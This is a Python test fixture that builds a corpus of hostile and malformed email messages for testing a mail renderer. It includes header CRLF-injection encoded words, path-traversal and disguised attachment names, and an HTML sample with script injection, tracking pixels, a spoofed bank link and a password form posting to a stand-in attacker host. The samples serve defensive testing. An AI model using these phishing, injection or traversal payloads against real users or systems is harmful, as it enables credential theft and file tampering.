"""A corpus of hostile and malformed messages, generated (so every byte is visible in review).

`CORPUS` maps a short name to the raw bytes of one message. Each message is built to hit one trap:
the stdlib `email` package's known failures on Python 3.11, MIME structure tricks, charset lies,
hostile HTML and hostile file names. Used by the renderer's unit tests and by the end-to-end test
that delivers every message through Dovecot, syncs, lists, reads and saves attachments.
"""

from __future__ import annotations

import base64

H = "From: Sender <sender@example.test>\r\nTo: you@example.test\r\nDate: Fri, 04 Dec 2026 10:00:00 +0000\r\n"


def _msg(name: str, headers: str, body: str | bytes) -> bytes:
    head = f"{H}Subject: hostile {name}\r\nMessage-ID: <{name}@hostile.test>\r\n{headers}".encode()
    return head + b"\r\n" + (body.encode() if isinstance(body, str) else body)


def _multipart(boundary: str, parts: list[str], kind: str = "mixed") -> str:
    inner = "".join(f"--{boundary}\r\n{p}\r\n" for p in parts)
    return f"Content-Type: multipart/{kind}; boundary=\"{boundary}\"\r\n\r\n{inner}--{boundary}--\r\n"


def _mp_msg(name: str, parts: list[str], kind: str = "mixed") -> bytes:
    head, _, rest = _multipart(f"={name}=", parts, kind).partition("\r\n\r\n")
    return _msg(name, "MIME-Version: 1.0\r\n" + head + "\r\n", rest)


def _deep(levels: int) -> bytes:
    body = "Content-Type: text/plain\r\n\r\nthe bottom\r\n"
    for n in range(levels):
        body = _multipart(f"d{n}", [body])
    head, _, rest = body.partition("\r\n\r\n")
    return _msg("deep", "MIME-Version: 1.0\r\n" + head + "\r\n", rest)


def _many_parts(count: int) -> bytes:
    return _mp_msg("many-parts", [f"Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"p{n}.txt\""
                                  f"\r\n\r\npart {n}" for n in range(count)])


def _attachment(filename_params: str, data: bytes = b"payload", ctype: str = "application/octet-stream") -> str:
    return (f"Content-Type: {ctype}\r\nContent-Disposition: attachment; {filename_params}\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(data).decode()}")


HOSTILE_NAMES = [
    'filename="../../../../etc/passwd"',
    'filename="/etc/shadow"',
    'filename="C:\\\\Windows\\\\System32\\\\evil.dll"',
    'filename="\\\\\\\\server\\\\share\\\\x.txt"',
    'filename="\\\\\\\\?\\\\C:\\\\x.exe"',
    'filename=".bashrc"',
    'filename="..."',
    'filename="CON"',
    'filename="nul.txt"',
    'filename="COM1.tar.gz"',
    'filename="a<b>c:d|e?f*g.txt"',
    'filename="invoice\u202egpj.exe"',
    'filename="trailing. . ."',
    'filename="' + "x" * 400 + '.pdf"',
    'filename="' + "é" * 300 + '.docx"',
    'filename="tab\there\x01bell\x07.txt"',
    'filename=""',
    "filename*=utf-8''%2E%2E%2F%2E%2E%2Fescape.txt",
    "filename*0*=utf-8''r%C3%A9sum; filename*1*=%C3%A9.pdf",
    'filename="=?utf-8?b?Li4vLi4vZW5jb2RlZC50eHQ=?="',
    'filename="plain.txt"; filename*=utf-8\'\'%F0%9F%93%8E%20real.txt',
    "filename*",
    "name*=; filename*0=a; filename*2=c",
    "",
]


def corpus() -> dict[str, bytes]:
    c: dict[str, bytes] = {}
    # --- the stdlib's known traps (docs/reading.md) ------------------------------------------------------------
    c["param-star-empty"] = _msg("param-star-empty", "MIME-Version: 1.0\r\nContent-Type: text/plain; name*\r\n"
                                 "Content-Disposition: attachment; filename*\r\n", "body\r\n")
    c["address-stray-punctuation"] = (
        b"From: \"\" <@>, ;:,, <\"\\\r\nTo: ,,;; <>, \"x\" @ , :;\r\nCc: undisclosed-recipients:;\r\n"
        b"Reply-To: <<>>\r\nSubject: stray punctuation\r\n\r\nbody\r\n")
    c["address-crlf-encoded"] = (
        b"From: =?utf-8?q?Evil=0D=0ABcc=3A_victim=40example=2Etest?= <evil@example.test>\r\n"
        b"To: =?utf-8?b?DQpYOiB5?= <you@example.test>\r\nSubject: =?utf-8?q?line=0D=0Abreak?=\r\n\r\nbody\r\n"
    )
    c["unknown-charset"] = _msg("unknown-charset", "Content-Type: text/plain; charset=x-no-such-charset\r\n",
                                "caf\xc3\xa9 bytes\r\n".encode("latin-1"))
    c["multipart-no-boundary"] = _msg("multipart-no-boundary", "MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n",
                                      "--x\r\nContent-Type: text/plain\r\n\r\nlost\r\n--x--\r\n")
    c["deep-250"] = _deep(250)
    c["nested-rfc822-deep"] = _nested_messages(120)
    c["get-filename-traps"] = _mp_msg("get-filename-traps", [
        "Content-Type: text/plain\r\n\r\nsee attachments",
        _attachment('filename="../../escape.txt"'),
        _attachment('filename="/abs/path.txt"'),
        _attachment("filename=\"fallback.txt\"; filename*=utf-8''pr%C3%A9f%C3%A9r%C3%A9.txt"),
    ])
    # --- structure -----------------------------------------------------------------------------------------
    c["many-parts-400"] = _many_parts(400)
    c["boundary-in-body"] = _msg("boundary-in-body", "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
                                 "boundary=\"b\"\r\n", "--b\r\nContent-Type: text/plain\r\n\r\n--bb not a boundary\r\n"
                                 "-- b\r\n--b\r\nContent-Type: text/plain\r\n\r\nsecond\r\n")  # no closing boundary
    c["boundary-empty"] = _msg("boundary-empty", "Content-Type: multipart/mixed; boundary=\"\"\r\n",
                               "--\r\nContent-Type: text/plain\r\n\r\nx\r\n----\r\n")
    c["boundary-prefix-nested"] = _msg("boundary-prefix-nested", "Content-Type: multipart/mixed; boundary=\"a\"\r\n",
                                       "--a\r\nContent-Type: multipart/alternative; boundary=\"aa\"\r\n\r\n--aa\r\n"
                                       "Content-Type: text/plain\r\n\r\ninner\r\n--aa--\r\n--a--\r\n")
    c["boundary-huge"] = _msg("boundary-huge", f"Content-Type: multipart/mixed; boundary=\"{'b' * 5000}\"\r\n",
                              f"--{'b' * 5000}\r\n\r\nx\r\n--{'b' * 5000}--\r\n")
    c["no-headers"] = b"\r\njust a body, no headers at all\r\n"
    c["headers-only"] = b"Subject: no body\r\nFrom: a@b.test"
    c["empty"] = b""
    c["garbage-binary"] = bytes(range(256)) * 8
    c["content-type-garbage"] = _msg("content-type-garbage", "Content-Type: ;;;===\"\"\"; charset\r\n"
                                     "Content-Transfer-Encoding: x-wobbly\r\n", "body\r\n")
    c["rfc822-attached"] = _mp_msg("rfc822-attached", [
        "Content-Type: text/plain\r\n\r\nforwarding this",
        "Content-Type: message/rfc822\r\n\r\nFrom: inner@example.test\r\nSubject: the inner one\r\n\r\ninner body",
    ])
    c["rfc822-empty"] = _msg("rfc822-empty", "Content-Type: message/rfc822\r\n", "")
    # --- encodings and charsets -------------------------------------------------------------------------------
    c["raw-8bit-headers"] = (b"From: J\xc3\xb6rg <j@example.test>\r\nSubject: caf\xe9 \xc3\xa9t\xc3\xa9 \xff\xfe\r\n"
                             b"Content-Type: text/plain\r\n\r\nbody \xe9\r\n")
    c["malformed-encoded-words"] = (
        b"From: =?utf-8?q?unterminated <a@b.test>\r\nSubject: =?utf-8?b?!!!notbase64?= =?=?= =?x?q?y?= "
        b"=?utf-8?q?=E2=82?= =?utf-8?q?=AC?= =??q??= =?utf-8*en?q?lang?=\r\n\r\nbody\r\n")
    c["qp-garbage"] = _msg("qp-garbage", "Content-Type: text/plain; charset=utf-8\r\n"
                           "Content-Transfer-Encoding: quoted-printable\r\n", "caf=C3=A9 =ZZ =\r\nsoft = = =4\r\n")
    c["base64-garbage"] = _msg("base64-garbage", "Content-Type: text/plain; charset=utf-8\r\n"
                               "Content-Transfer-Encoding: base64\r\n", "SGVs!!bG8g*d29y\r\n==bGQ=extra===\r\nA\r\n")
    c["ascii-lie"] = _msg("ascii-lie", "Content-Type: text/plain; charset=us-ascii\r\n", "na\xefve caf\xc3\xa9".encode(
        "latin-1"))
    c["latin1-is-1252"] = _msg("latin1-is-1252", "Content-Type: text/plain; charset=iso-8859-1\r\n",
                               b"\x93quoted\x94 \x80 price")
    c["utf16-declared"] = _msg("utf16-declared", "Content-Type: text/plain; charset=utf-16\r\n", b"\xff\xfeh\x00i")
    c["codec-not-charset"] = _msg("codec-not-charset", "Content-Type: text/plain; charset=rot13\r\n", b"uryyb")
    c["nul-bare-cr"] = _msg("nul-bare-cr", "Content-Type: text/plain\r\n", b"line\x00one\rline two\rthree\nfour\r\n")
    c["lf-only"] = (H + "Subject: LF only\nContent-Type: text/plain\n\nline one\nline two\n").encode()
    # --- HTML -------------------------------------------------------------------------------------------------
    c["hostile-html"] = _msg("hostile-html", "Content-Type: text/html; charset=utf-8\r\n", HOSTILE_HTML)
    c["html-deep"] = _msg("html-deep", "Content-Type: text/html\r\n", "<div>" * 20000 + "deep text" + "</b>" * 10)
    c["html-related-cid"] = _msg("html-related-cid", "MIME-Version: 1.0\r\n" + RELATED_HEAD, RELATED_BODY)
    c["calendar-invite"] = _mp_msg("calendar-invite", [
        "Content-Type: text/plain\r\n\r\nYou are invited",
        "Content-Type: text/calendar; method=REQUEST\r\n\r\n" + ICS,
    ], "alternative")
    c["winmail-dat"] = _mp_msg("winmail-dat", [
        "Content-Type: text/plain\r\n\r\nsee the attachment",
        "Content-Type: application/ms-tnef; name=\"winmail.dat\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(b"\x78\x9f\x3e\x22" + b"\x00" * 40).decode(),
    ])
    c["hostile-filenames"] = _mp_msg("hostile-filenames", ["Content-Type: text/plain\r\n\r\nhostile names"] + [
        _attachment(p, f"file {i}".encode()) for i, p in enumerate(HOSTILE_NAMES)])
    # --- threading headers (References / In-Reply-To: loops, self, huge, garbage) ----------------------------
    c["references-loop-a"] = _msg("references-loop-a", "References: <references-loop-b@hostile.test>\r\n"
                                  "In-Reply-To: <references-loop-b@hostile.test>\r\n", "a\r\n")
    c["references-loop-b"] = _msg("references-loop-b", "References: <references-loop-a@hostile.test>\r\n"
                                  "In-Reply-To: <references-loop-a@hostile.test>\r\n", "b\r\n")
    c["references-self"] = _msg("references-self", "References: <references-self@hostile.test> "
                                "<references-self@hostile.test>\r\nIn-Reply-To: <references-self@hostile.test>\r\n",
                                "self\r\n")
    c["references-huge"] = _msg("references-huge", "References:" + "".join(
        f"\r\n <r{n}-{'x' * 40}@hostile.test>" for n in range(5000)) + " <references-loop-a@hostile.test>\r\n",
        "huge\r\n")
    c["references-garbage"] = _msg("references-garbage", "References: <<>> <@> <a b c> \x01 <\r\n"
                                   "In-Reply-To: =?utf-8?b?PGV2aWxAeD4=?= <>\r\n", "garbage\r\n")
    return c


def _nested_messages(levels: int) -> bytes:
    body = "From: bottom@example.test\r\nSubject: bottom\r\n\r\nbottom text\r\n"
    for n in range(levels):
        body = f"From: level{n}@example.test\r\nSubject: level {n}\r\nContent-Type: message/rfc822\r\n\r\n{body}"
    return body.encode()


HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="prefetch" href="https://prefetch.example/x"><link rel="stylesheet" href="https://css.example/s.css">
<style>body { background: url(https://style.example/bg.png) } @import url(https://import.example/i.css);</style>
<base href="https://base.example/"><script>document.write('script ran')</script></head>
<body onload="alert('onload')" background="https://bodybg.example/b.png">
<p style="color: red; background-image: url('https://inline.example/u.png'); position: fixed; font-weight: bold">
Styled</p><img src="https://pixel.example/open.gif?id=42" width="1" height="1">
<img src="//protocol-relative.example/x.png"><img src="https://img.example/photo.jpg" alt="a photo">
<a href="javascript:alert('js')">js link</a> <a href="JaVaScRiPt&#58;alert(1)">encoded js</a>
<a href="https://attacker.example/login" onclick="steal()">https://bank.example/login</a>
<a href="mailto:attacker@evil.example">support@bank.example</a>
<a href="https://bank.example/account">www.bank.example</a>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Go</button></form>
<iframe src="https://frame.example/"></iframe><object data="https://object.example/x.swf"></object>
<embed src="https://embed.example/x"><svg onload="alert(1)"><image href="https://svg.example/x.png"/></svg>
<video poster="https://poster.example/p.jpg"></video><table background="https://tablebg.example/t.png">
<tr><td>cell</td></tr></table><div style="width: expression(alert(1))">expr</div>
<!-- a comment with <script>alert(1)</script> --><noscript><img src="https://noscript.example/n.gif"></noscript>
Visible text\x00after NUL</body></html>"""

RELATED_HEAD = 'Content-Type: multipart/related; boundary="rel"; type="text/html"\r\n'
RELATED_BODY = ("--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
                "<p>Logo: <img src=\"cid:logo%40example.test\" alt=\"logo\"> and <img src=\"cid:missing@x\"></p>\r\n"
                "--rel\r\nContent-Type: image/png\r\nContent-ID: <logo@example.test>\r\n"
                "Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgoAAAANSUhEUg==\r\n--rel--\r\n")

ICS = ("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Planning\\, with cake\r\n"
       "DTSTART;TZID=Europe/Berlin:20261210T100000\r\nDTEND;TZID=Europe/Berlin:20261210T110000\r\n"
       "LOCATION:Room 4\r\nORGANIZER;CN=\"Ann Boss\":mailto:ann@example.test\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")

CORPUS = corpus()
